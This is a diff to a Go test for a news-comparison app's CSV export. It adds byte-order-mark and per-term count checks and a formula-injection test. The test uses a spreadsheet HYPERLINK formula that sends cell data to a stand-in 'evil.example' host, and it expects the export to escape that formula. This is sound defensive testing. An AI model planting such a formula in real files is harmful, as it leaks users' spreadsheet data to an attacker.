@@ -693,11 +693,12 @@ func findCookie(h http.Header, name string) *http.Cookie {
 	return nil
 }
 
-func TestTheComparisonDownloadsAsCSVWithOneLinePerConceptAndArticle(t *testing.T) {
+func TestTheComparisonDownloadsAsCSVWithOneLinePerTermAndItsOwnCount(t *testing.T) {
 	ts := newTestServer(t)
 	ts.seedLexicon()
 	id := ts.createEvent("Meeting", "", "")
-	north := ts.addArticle(id, validArticle("North Post", "N", "Leaders met in Northburg. Northburg was calm."))
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	north := ts.addArticle(id, validArticle(formula, "N", "Leaders met in Northburg. Northburg was calm, Southville too."))
 	south := ts.addArticle(id, validArticle("South, Daily", "S", "Leaders met in Southville on Wednesday."))
 
 	r := ts.get(eventPath(id) + "/comparison?format=csv").wantStatus(http.StatusOK)
@@ -707,15 +708,20 @@ func TestTheComparisonDownloadsAsCSVWithOneLinePerConceptAndArticle(t *testing.T
 	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="event-`+id64(id)+`-comparison.csv"` {
 		t.Errorf("Content-Disposition = %q", cd)
 	}
-	lines, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
+	body, ok := strings.CutPrefix(r.Body, "\ufeff")
+	if !ok {
+		t.Error("the CSV does not start with a UTF-8 byte-order mark")
+	}
+	lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
 	if err != nil {
 		t.Fatalf("not CSV: %v\n%s", err, r.Body)
 	}
-	if len(lines) != 3 || strings.Join(lines[0][:8], ",") != "concept_id,concept,category,lexicon,differs,article_id,outlet,terms" {
+	if len(lines) != 4 || strings.Join(lines[0][:10], ",") != "concept_id,concept,category,lexicon,differs,article_id,outlet,term,perspective,count" {
 		t.Fatalf("CSV = %q", lines)
 	}
 	want := [][]string{
-		{"The main city", "true", id64(north.ID), "North Post", "Northburg", "2"},
+		{"The main city", "true", id64(north.ID), "'" + formula, "Northburg", "2"},
+		{"The main city", "true", id64(north.ID), "'" + formula, "Southville", "1"},
 		{"The main city", "true", id64(south.ID), "South, Daily", "Southville", "1"},
 	}
 	for i, w := range want {
